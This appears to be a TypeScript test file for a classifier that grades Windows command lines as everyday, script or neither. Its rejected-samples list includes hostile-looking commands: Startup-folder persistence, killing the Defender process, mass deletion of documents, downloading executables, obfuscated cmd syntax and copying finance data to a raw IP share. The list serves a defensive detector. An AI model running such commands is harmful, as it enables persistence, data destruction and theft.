import assert from 'node:assert/strict'
import { test } from 'node:test'
import { COMMAND_MAX, gradeCommand } from './everyday.ts'

const EVERYDAY = [
  'xcopy "\ufffd" "D:\\Backup\\" /Y',
  'robocopy C:\\Finance \\\\nas01\\backup /MIR',
  'cmd /c net use X: \\\\fileserver\\finance /persistent:no',
  'cmd /c cd /d "\ufffd" && git add . && git commit -m auto',
  'cmd.exe /c "copy C:\\a.csv D:\\b.csv"',
  '%comspec% /c dir C:\\Data > C:\\Data\\list.txt',
  'cmd /c if not exist D:\\Backup md D:\\Backup',
  'cmd /c del C:\\Data\\old.csv',
  'taskkill /im AcroRd32.exe /f',
  'C:\\ERP\\client.exe /export',
  '"C:\\Program Files\\7-Zip\\7z.exe" a D:\\b.zip C:\\Finance',
  'C:\\Windows\\System32\\mstsc.exe /v:server01',
  'python "\ufffd\\model.py"',
  'notepad.exe \ufffd\\readme.txt',
  'chrome.exe https://www.example.com/manual',
  'cmd /c start "" "C:\\Data\\manual.pdf"',
  'curl -s -o "C:\\Data\\rates.json" https://api.example.com/latest',
  'rundll32 printui.dll,PrintUIEntry /y /n "Office"',
]
const SCRIPTS = [
  'powershell -NoProfile -ExecutionPolicy Bypass -File "\\\\server\\scripts\\export.ps1"',
  'cscript //nologo C:\\Scripts\\map.vbs',
  '\\\\server\\apps\\client.exe',
]
const OTHERS = [
  '',
  '\ufffd',
  'calc.exe',
  'cmd /c calc.exe',
  'cmd /c x',
  'cmd /c echo inert',
  'notepad.exe',
  'explorer.exe http://www.example.com',
  'explorer C:\\Users\\Public\\a.hta',
  'xcopy a.vbs "%appdata%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"',
  'robocopy C:\\Finance \\\\203.0.113.7\\a /MIR',
  'cmd /c copy \\\\host.example.net@80\\a\\b.exe C:\\b.exe',
  'cmd /c copy C:\\Windows\\System32\\mshta.exe C:\\a.exe && C:\\a.exe',
  'cmd /c echo x | powershell -',
  'cmd /c dir & %temp%\\a.exe',
  'cmd /c d^i^r',
  'cmd /c del /s /q C:\\Users\\*.docx',
  'cmd /c del C:\\Data\\*.*',
  'taskkill /f /im MsMpEng.exe',
  'python -c "import os"',
  'powershell -w hidden -File C:\\Scripts\\a.ps1',
  'powershell -c ls',
  'wscript %temp%\\a.vbs',
  '%temp%\\a.exe',
  'C:\\Users\\Public\\a.exe',
  'curl -o C:\\a.exe https://example.com/a.exe',
  'curl -o C:\\a.json http://203.0.113.7/a',
  'rundll32 C:\\a.dll,Start',
]

test('tools with readable arguments are everyday', () => {
  for (const command of EVERYDAY) assert.equal(gradeCommand(command), 'everyday', command)
})
test('longer commands are not', () => {
  const copy = (length: number): string => `xcopy ${'a'.repeat(length - 8)} b`
  assert.equal(gradeCommand(copy(COMMAND_MAX)), 'everyday')
  assert.equal(gradeCommand(copy(COMMAND_MAX + 1)), null)
})
test('scripts in files are scripts', () => {
  for (const command of SCRIPTS) assert.equal(gradeCommand(command), 'script', command)
})
test('other commands are neither', () => {
  for (const command of OTHERS) assert.equal(gradeCommand(command), null, command)
})
